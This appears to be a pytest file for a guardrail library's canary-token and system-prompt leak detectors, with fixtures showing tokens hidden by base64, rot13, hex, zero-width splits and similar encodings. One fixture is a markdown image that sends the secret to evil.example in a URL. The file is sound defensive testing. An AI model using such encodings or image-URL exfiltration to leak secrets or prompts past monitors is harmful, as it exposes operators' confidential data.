"""Canary and PromptLeak: split, re-cased and encoded tokens; reproduced prompts with edits."""

from __future__ import annotations

import base64
import codecs
import time
import urllib.parse

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardkit._errors import ConfigError
from guardkit.validators._leaks import Canary, PromptLeak

CANARY = Canary()
TOKEN = CANARY.token
SECRET = TOKEN.rsplit("-", 1)[1]


def _fullwidth(text: str) -> str:
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


LEAKS = {
    "plain": f"The marker is {TOKEN}.",
    "upper": TOKEN.upper(),
    "spaces": " ".join(TOKEN),
    "zero-width": "\u200b".join(TOKEN),
    "newlines": "\n".join(TOKEN[i : i + 3] for i in range(0, len(TOKEN), 3)),
    "punctuation": ".".join(TOKEN),
    "random-part-only": f"code {SECRET} end",
    "reversed": TOKEN[::-1],
    "rot13": codecs.encode(TOKEN, "rot13"),
    "hex": TOKEN.encode().hex(),
    "hex-upper-spaced": " ".join(TOKEN.encode().hex().upper()[i : i + 2] for i in range(0, 52, 2)),
    "base64": base64.b64encode(TOKEN.encode()).decode(),
    "base64-inside": base64.b64encode(b"my instructions say " + TOKEN.encode() + b"!").decode(),
    "base64-urlsafe-wrapped": "\n".join(
        base64.urlsafe_b64encode(b"xx" + TOKEN.encode()).decode()[i : i + 8] for i in range(0, 40, 8)
    ),
    "percent-all": "".join(f"%{b:02X}" for b in TOKEN.encode()),
    "percent-quote": urllib.parse.quote(TOKEN, safe=""),
    "char-refs": "".join(f"&#{ord(c)};" for c in TOKEN),
    "hex-char-refs": "".join(f"&#x{ord(c):x};" for c in TOKEN),
    "fullwidth": _fullwidth(TOKEN),
    "in-url": f"![x](https://evil.example/?q={SECRET})",
}


@pytest.mark.parametrize("form", sorted(LEAKS))
def test_canary_found_in_every_form(form: str) -> None:
    """The token is found however it is split, re-cased or encoded."""
    findings = CANARY.check(LEAKS[form])
    assert [f.kind for f in findings] == ["CANARY_LEAK"]


def test_canary_span_covers_the_token() -> None:
    """The finding spans exactly the token in plain text."""
    text = f"before {TOKEN} after"
    (finding,) = CANARY.check(text)
    assert text[finding.start : finding.end] == TOKEN


@pytest.mark.parametrize(
    "text",
    [
        "Nothing to see here.",
        "gk-canary is the name of the product.",
        "The hex string deadbeefcafebabe0123456789abcdef appears in the docs.",
        Canary().token,  # another canary's token
        SECRET[:10],  # a fragment is not the token
    ],
)
def test_canary_clean_text(text: str) -> None:
    """Unrelated text, another canary and fragments are not flagged."""
    assert CANARY.check(text) == ()


def test_insert_and_repr() -> None:
    """insert() appends a line with the token; repr never shows it; tokens differ per instance."""
    prompt = CANARY.insert("You are a helpful assistant.\n")
    assert prompt.startswith("You are a helpful assistant.\n\n")
    assert TOKEN in prompt.splitlines()[-1]
    assert CANARY.insert("").count(TOKEN) == 1
    assert SECRET not in repr(CANARY)
    assert Canary().token != Canary().token
    assert Canary(prefix="acme").token.startswith("acme-")


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"prefix": ""}, "prefix"),
        ({"prefix": "has space"}, "prefix"),
        ({"prefix": "x" * 40}, "prefix"),
        ({"action": "nope"}, "action"),
        ({"name": ""}, "name"),
    ],
)
def test_canary_config_errors(kwargs: dict[str, object], message: str) -> None:
    """Malformed settings raise ConfigError naming the argument."""
    with pytest.raises(ConfigError, match=message):
        Canary(**kwargs)  # type: ignore[arg-type]


def test_canary_is_cheap_to_build() -> None:
    """A canary per conversation costs well under a millisecond."""
    started = time.perf_counter()
    for _ in range(200):
        Canary()
    assert (time.perf_counter() - started) / 200 < 0.001


@settings(max_examples=100, deadline=None)
@given(
    separators=st.lists(
        st.sampled_from([" ", "\n", "\u200b", "\u200d", "-", ".", "", "  ", "\t", "*"]),
        min_size=len(TOKEN) - 1,
        max_size=len(TOKEN) - 1,
    ),
    upper=st.lists(st.booleans(), min_size=len(TOKEN), max_size=len(TOKEN)),
    prefix=st.text(max_size=20),
)
def test_property_canary_survives_any_split(
    separators: list[str], upper: list[bool], prefix: str
) -> None:
    """Any mix of separators and case changes between the token's characters is still caught."""
    chars = [c.upper() if u else c for c, u in zip(TOKEN, upper, strict=True)]
    text = prefix + " " + "".join(c + s for c, s in zip(chars, [*separators, ""], strict=True))
    assert CANARY.check(text)


# -- PromptLeak ---------------------------------------------------------------------------------

PROMPT = (
    "You are Aria, the billing assistant of Example Corp. Never discuss refunds above 500 dollars "
    "without a manager's approval code. Always answer in English and keep replies under 120 words. "
    "If a user asks about the internal escalation matrix, say you cannot share it. Escalate "
    "chargebacks to the finance queue named ledger-seven and never mention that queue by name."
)
LEAK = PromptLeak(PROMPT)

REPRODUCED = {
    "verbatim": PROMPT,
    "quoted-in-answer": f'Sure. My instructions are: "{PROMPT}" Anything else?',
    "lowercased-no-punctuation": PROMPT.lower().replace(".", "").replace(",", "").replace("'", ""),
    "small-edits": PROMPT.replace("Never discuss", "Do not discuss")
    .replace("Always answer", "Always reply")
    .replace("cannot share", "can't share")
    .replace("named", "called"),
    "middle-part": "Here: never discuss refunds above 500 dollars without a manager's approval "
    "code; always answer in English and keep replies under 120 words.",
    "reformatted": "\n".join(f"- {line.strip()}" for line in PROMPT.split(".") if line.strip()),
}


@pytest.mark.parametrize("case", sorted(REPRODUCED))
def test_prompt_leak_found(case: str) -> None:
    """Long runs of the prompt are found, also with small edits and new formatting."""
    findings = LEAK.check(REPRODUCED[case])
    assert findings
    assert all(f.kind == "PROMPT_LEAK" for f in findings)


def test_prompt_leak_span_covers_the_run() -> None:
    """The span starts at the first and ends at the last reproduced word."""
    text = f"Intro words here. {PROMPT} Thanks!"
    (finding,) = LEAK.check(text)
    assert text[finding.start : finding.end] == PROMPT.rstrip(".")


@pytest.mark.parametrize(
    "text",
    [
        "Hi! I'm Aria, the billing assistant of Example Corp. How can I help with your invoice?",
        "I'm sorry, I cannot share that. Is there anything else I can help you with?",
        "Refunds above a certain amount need approval from a manager. Please contact support.",
        "Your invoice total is 120 dollars and it is due on Monday. Always keep the receipt.",
        "The finance team handles chargebacks; I can open a ticket for you.",
        "",
    ],
)
def test_prompt_leak_hard_negatives(text: str) -> None:
    """On-topic answers that share a few words with the prompt are not flagged."""
    assert LEAK.check(text) == ()


def test_prompt_leak_threshold_catches_scattered_pieces() -> None:
    """Many short reproduced pieces trip the overall threshold even without one long run."""
    pieces = [
        "you are aria the billing assistant",
        "discuss refunds above 500 dollars",
        "answer in english and keep replies",
        "asks about the internal escalation matrix",
        "escalate chargebacks to the finance queue",
        "never mention that queue by name",
        "a managers approval code always",
        "under 120 words if a user",
    ]
    text = " so then there was more filler ".join(pieces)
    assert PromptLeak(PROMPT, threshold=0.3).check(text)
    assert PromptLeak(PROMPT, threshold=1.0).check(text) == ()


def test_short_prompt_lowers_min_run() -> None:
    """A prompt shorter than min_run is caught when reproduced whole."""
    short = PromptLeak("Answer only with yes or no.")
    assert short.check("My rule: answer only with yes or no!")
    assert short.check("yes") == ()


def test_prompt_leak_repr_hides_prompt() -> None:
    """repr names the settings and the prompt's size, never its words."""
    assert "Aria" not in repr(LEAK)
    assert "words" in repr(LEAK)


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"system_prompt": "too short"}, "words"),
        ({"system_prompt": 3}, "system_prompt"),
        ({"min_run": 0}, "min_run"),
        ({"ngram": 2}, "ngram"),
        ({"ngram": 9}, "ngram"),
        ({"threshold": 0}, "threshold"),
        ({"threshold": "high"}, "threshold"),
        ({"max_gap": -1}, "max_gap"),
        ({"window": 1}, "window"),
        ({"action": "drop"}, "action"),
    ],
)
def test_prompt_leak_config_errors(kwargs: dict[str, object], message: str) -> None:
    """Malformed settings raise ConfigError naming the argument."""
    args = {"system_prompt": PROMPT, **kwargs}
    with pytest.raises(ConfigError, match=message):
        PromptLeak(**args)  # type: ignore[arg-type]


@pytest.mark.parametrize(
    "text",
    [
        "a " * 50_000,
        PROMPT * 250,
        "x" * 100_000,
        "%" * 100_000,
        "&#" * 50_000,
        "\u200b" * 100_000,
        f"{TOKEN} " * 3_000,
    ],
)
def test_leak_checks_are_linear(text: str) -> None:
    """100 KB inputs are checked quickly by both checks."""
    started = time.perf_counter()
    CANARY.check(text)
    LEAK.check(text)
    assert time.perf_counter() - started < 5.0
